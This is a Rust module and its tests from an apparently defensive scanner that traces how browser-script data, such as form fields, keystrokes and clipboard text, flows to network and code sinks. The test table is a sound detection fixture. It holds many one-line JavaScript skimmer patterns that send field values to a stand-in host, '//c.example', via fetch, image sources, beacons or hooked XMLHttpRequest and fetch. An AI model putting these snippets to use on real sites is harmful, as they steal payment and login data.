//! Taint: where values come from, what is done to them, and where they go.
//!
//! A flow-insensitive analysis of the normalised stream, so that it sees through encoded names and works where nothing
//! parses: every variable, property and expression is a [node](graph), every assignment, argument and return an edge, and
//! [marks](Mark) such as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is
//! executed and no order of statements is assumed, so a flow says what may happen. Work and memory are linear in the items:
//! a node has at most 64 marks and passes each on once.
//!
//! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`] with the
//! marks `Field`, `Address` and `ImageElement`, from the item of `value` to the item of `src`.
//!
//! Neighbours: it reads the [stream](crate::stream) and its facts, and the browser names of [`Lexicon`]. [`of_flows`] makes
//! facts of flows, which signals combine with others; [`AddressUse`]s go into the report and to signatures.
//!
//! What must not be done here: rely on the order of statements (attackers choose it, and handlers run later anyway), read the
//! vocabulary of the model (a new model would change findings), or decide what is malicious (signals do, with more to go by).

mod abroad;
mod address;
mod facts;
mod graph;
mod marks;
mod private;
mod walk;

pub(crate) use address::AddressUse;
pub(crate) use facts::of_flows;
pub(crate) use marks::{Mark, Marks, Sink};

use crate::facts::Fact;
use crate::lexicon::Lexicon;
use crate::stream::Stream;

/// What reaches one sink.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Flow {
    pub(crate) sink: Sink,
    pub(crate) marks: Marks,
    /// The item where data enters that reaches the sink; the sink's own where none does.
    pub(crate) from: u32,
    /// The item of the sink.
    pub(crate) at: u32,
    /// Whether it carries an absolute address whose host the source around it does not show.
    pub(crate) coded: bool,
}

impl Flow {
    /// Whether the data enters at most this many items from the sink.
    fn is_within(&self, items: u32) -> bool {
        self.from.abs_diff(self.at) <= items
    }
}

/// The flows of a script, in the order of their sinks, and the addresses that it uses. `facts` are the stream's, in its order.
pub(crate) fn flows(stream: &Stream<'_>, facts: &[Fact], lexicon: &Lexicon) -> (Vec<Flow>, Vec<AddressUse>) {
    // Three steps, and their order matters: the walk makes all edges, then marks spread, then sinks are read. A sink that was read
    // while edges are still added would miss `function s() { img.src = v }  v = card.value`, where the value comes later.
    let (graph, sinks, addressed) = walk::walk(stream, facts, lexicon, stream.functions());
    if sinks.is_empty() {
        return (Vec::new(), address::uses(stream, std::iter::empty::<(Sink, u32, &[u32])>()));
    }
    let reached = graph.spread(|| stream.turn());
    let mut coded = address::Coded::default();
    let mut flows: Vec<Flow> = sinks
        .into_iter()
        .map(|(sink, node, at)| {
            let (marks, from) = reached.of(node);
            let code = matches!(sink, Sink::Code | Sink::Shown | Sink::Imported);
            let asked = matches!(sink, Sink::Request | Sink::Beacon | Sink::Socket);
            let coded = (marks.has(Mark::ScriptElement) || code || asked)
                && coded.any(stream, reached.addresses(node));
            Flow { sink, marks, from: from.unwrap_or(at), at, coded }
        })
        .filter(|flow| !flow.marks.is_empty())
        .collect();
    flows.sort_by_key(|flow| flow.at);
    let addressed = addressed.into_iter().map(|(sink, node, at)| (sink, at, reached.addresses(node)));
    (flows, address::uses(stream, addressed))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::Recogniser;
    use crate::stream::normalise;

    /// Each flow as `mark+mark>sink`.
    fn read(source: &str) -> Vec<String> {
        let (stream, _) = normalise(source, |_| {});
        let facts = Recogniser::new().facts(&stream);
        let (flows, _) = flows(&stream, &facts, &Lexicon::new());
        let name = |flow: &Flow| {
            let marks: Vec<String> = flow.marks.iter().map(|mark| format!("{mark:?}")).collect();
            format!("{}>{:?}", marks.join("+"), flow.sink)
        };
        flows.iter().map(name).collect()
    }

    #[test]
    fn values_are_followed_to_where_they_go() {
        let table = [
            ("straight", "fetch('//c.example/'+a.value)", "Field+Address>Request"),
            ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field+ImageElement>Fetched"),
            ("before it is assigned", "function s(){b.src=v}v=a.value", "Field>Fetched"),
            (
                "in a default",
                "(function(a=(()=>{fetch('//c.example/'+q.value)})()){})()",
                "Field+Address>Request",
            ),
            (
                "after a default",
                "(function(a=()=>1,b){new Image().src=b})(0,q.value)",
                "Field+ImageElement>Fetched",
            ),
            ("by a property", "this.q={};this.q.k=a.value;navigator.sendBeacon(u,this.q)", "Field>Beacon"),
            (
                "by an argument",
                "function send(d){navigator.sendBeacon(u,d)}send(btoa(a.value))",
                "Field+Base64>Beacon",
            ),
            (
                "by an object that is handed over",
                "function fill(o){o.k=a.value}var d={};fill(d);i.src=d.k",
                "Field>Fetched",
            ),
            (
                "not to other objects",
                "function fill(o){return o.k}var d={},e=a.value;fill(e);fill(d);i.src=d",
                "",
            ),
            (
                "by a form",
                "new Ajax.Request('//c.example',{parameters:Form.serialize(q)})",
                "Field+Address>Request",
            ),
            ("by a return value", "function get(){return a.value}location=get()", "Field>Navigation"),
            ("by a function in a variable", "var f=(d)=>{i.src=d};f(a.value)", "Field>Fetched"),
            ("by a method", "var o={f:function(d){i.src=d}};o.f(a.value)", "Field>Fetched"),
            ("by a called function expression", "(function(d){i.src=d})(a.value)", "Field>Fetched"),
            ("by a list", "var l=[];l.push(a.value);eval(l.join(''))", "Field>Code"),
            ("added to", "var v='';v+=a.value+'&';i.src=v", "Field>Fetched"),
            (
                "added to a property in a condition",
                "var o={s:null,c:function(){for(var i=0;i<q.length;i++){if(q[i].value.length>0){o.s+=q[i].name+'='+q[i].value+'&'}}},d:function(){var e=btoa(o.s);x.send(e)}}",
                "Field+Base64>Request",
            ),
            ("by a loop", "for(var k of l){i.src=k}l=[a.value]", "Field>Fetched"),
            ("by a callback", "[a.value].forEach(function(e){i.src=e})", "Field>Fetched"),
            (
                "by a request",
                "var x=new XMLHttpRequest;x.open('POST','//c.example');x.send(a.value)",
                "Field+Address>Request",
            ),
            ("an attribute", "i.setAttribute('src',a.value)", "Field>Fetched"),
            (
                "element and address",
                "var s=document.createElement('script');s.src='//c.example/a.js'",
                "Address+ScriptElement>Fetched",
            ),
            ("by a pattern", "const {a,b}=f.value;i.src=b", "Field>Fetched"),
            ("by a pattern in a loop", "for(const [k,v] of l){i.src=v}l=[a.value]", "Field>Fetched"),
            ("by a pattern of parameters", "function s({m,n}){i.src=n}s({n:a.value})", "Field>Fetched"),
            ("by the result of a callback", "var l=q.map(e=>e.value);i.src=l.join()", "Field>Fetched"),
            (
                "by the storage",
                "localStorage.setItem('k',a.value);i.src=localStorage.getItem('k')",
                "Field+Storage>Stored Field+Storage>Fetched",
            ),
            (
                "not by another key of the storage",
                "localStorage.setItem('k',a.value);i.src=localStorage.getItem('l')",
                "Field+Storage>Stored Storage>Fetched",
            ),
            (
                "by a chain that the browser begins",
                "navigator.clipboard.readText().then(t=>{i.src=t})",
                "Clipboard>Fetched",
            ),
            ("by all fields of a form", "new FormData(f).forEach((v,k)=>{i.src=v})", "Field>Fetched"),
            (
                "by a replaced function",
                "XMLHttpRequest.prototype.send=function(d){i.src=d}",
                "Hooked>Fetched",
            ),
            (
                "by the arguments of a replaced function",
                "window.fetch=function(){i.src=JSON.stringify(arguments)}",
                "Json+Hooked>Fetched",
            ),
            (
                "to a processor of payments",
                "fetch('https://api.stripe.com/v1/tokens',{body:a.value})",
                "Field>Request",
            ),
            (
                "by markup",
                "document.write('<img src=//c.example/?'+a.value+'>')",
                "Field+Address+ImageElement>Markup Field+Address+ImageElement>Written",
            ),
            (
                "by a key that is taken out of an event",
                "d.addEventListener('keyup',({key})=>{b+=key});i.src=b",
                "TypedKey>Fetched",
            ),
            ("not by a key of something else", "d.addEventListener('click',({key})=>{b+=key});i.src=b", ""),
            (
                "by the value of a target",
                "f.oninput=({target:{name,value}})=>{i.src=name+value}",
                "Field>Fetched",
            ),
            (
                "by a value that is taken out",
                "const {value}=d.querySelector('#q');i.src=value",
                "Field>Fetched",
            ),
            ("not by what is read from a stream", "const {value,done}=await r.read();i.src=value", ""),
            (
                "by fields that are taken apart",
                "d.querySelectorAll('input').forEach(({name,value})=>{o[name]=value});i.src=q(o)",
                "Field>Fetched",
            ),
            (
                "by a function that a list is made with",
                "i.src=Array.from(q,e=>e.value).join()",
                "Field>Fetched",
            ),
            ("by a borrowed method", "i.src=[].map.call(q,function(e){return e.value})", "Field>Fetched"),
            (
                "by a text that a callback adds to",
                "var s='';l.forEach(function(e){s+=e.value});i.src='//c.example/?'+s",
                "Field+Address>Fetched",
            ),
            (
                "by a list that a callback adds to",
                "var s=[];l.each(function(e){s.push(e.value)});i.src=s.join()",
                "Field>Fetched",
            ),
            (
                "by an object that a callback fills",
                "var o={};l.forEach(e=>{o[e.name]=e.value});i.src=Object.keys(o).map(k=>o[k]).join()",
                "Field>Fetched",
            ),
            ("by a promise", "new Promise(done=>{done(a.value)}).then(v=>{i.src=v})", "Field>Fetched"),
            (
                "by a method that browsers have",
                "var o={send(d){i.src=d}};o.send(a.value)",
                "Field>Fetched Field>Request",
            ),
            ("not by one of the browser", "var o={log(d){i.src=d}};console.log(a.value)", ""),
            ("by an async method", "class A{async go(d){i.src=d}}new A().go(a.value)", "Field>Fetched"),
            (
                "by a static method",
                "class A{static send(d){i.src=d}}A.send(a.value)",
                "Field>Fetched Field>Request",
            ),
            (
                "by a property of this that browsers have",
                "class A{k(e){this.data+=e.value}s(){i.src=this.data}}",
                "Field>Fetched",
            ),
            ("by a global that is a function", "leak=function(d){i.src=d}\nleak(a.value)", "Field>Fetched"),
            ("by a global that nobody declares", "key=a.value;i.src=key", "Field>Fetched"),
            ("by a function of the window", "window.f=function(d){i.src=d};f(a.value)", "Field>Fetched"),
            ("into another object", "var o={};Object.assign(o,{k:a.value});i.src=q(o)", "Field>Fetched"),
            (
                "by a socket of a library",
                "const s=io('https://c.example');s.emit('k',a.value)",
                "Field+Address>Socket",
            ),
            ("not by an event", "bus.emit('k',a.value)", ""),
            ("to a database", "set(ref(db,'k'),{k:a.value})", "Field>Request"),
            ("to a database, by its collection", "db.collection('k').add({k:a.value})", "Field>Request"),
            ("to what an extension stores", "chrome.storage.local.set({k:a.value})", "Field>Kept"),
            (
                "by a beacon of another name",
                "const b=navigator.sendBeacon.bind(navigator);b(u,a.value)",
                "Field>Request",
            ),
            (
                "by what others change later",
                "var b='';function s(){i.src='//c.example/?'+b}s();a.oninput=function(){b+=a.value}",
                "Field+Address>Fetched",
            ),
            (
                "by an object that others fill later",
                "var o={b:''};function s(){i.src='//c.example/?'+o.b}s();a.oninput=function(){o.b+=a.value}",
                "Field+Address>Fetched",
            ),
            (
                "by a list that others fill later",
                "var b=[];q(()=>{i.src='//c.example/?'+b.join('')});a.oninput=function(){b.push(a.value)}",
                "Field+Address>Fetched",
            ),
            ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
            ("other variable", "var v=a.value;i.src=w", ""),
            ("other function's variable", "function f(){var v=a.value}function g(v){i.src=v}", ""),
            ("compared", "if(a.value=='x'){i.src=b}", ""),
            ("written", "a.value=b;i.src=a", ""),
            ("relative address", "i.src='/logo.png'", ""),
        ];
        let failed: Vec<String> = table
            .iter()
            .map(|(name, source, want)| (name, read(source).join(" "), want))
            .filter(|(_, got, want)| got != *want)
            .map(|(name, got, want)| format!("{name}: {got} for {want}"))
            .collect();
        assert!(failed.is_empty(), "{}", failed.join("\n"));
    }

    #[test]
    fn unbalanced_text_is_walked_to_its_end() {
        for source in
            [")]}".repeat(500), "(a=[{b:".repeat(500), "f(function(a){".repeat(500), "a=>b=>".repeat(5_000)]
        {
            read(&format!("{source};i.src=a.value"));
        }
    }
}
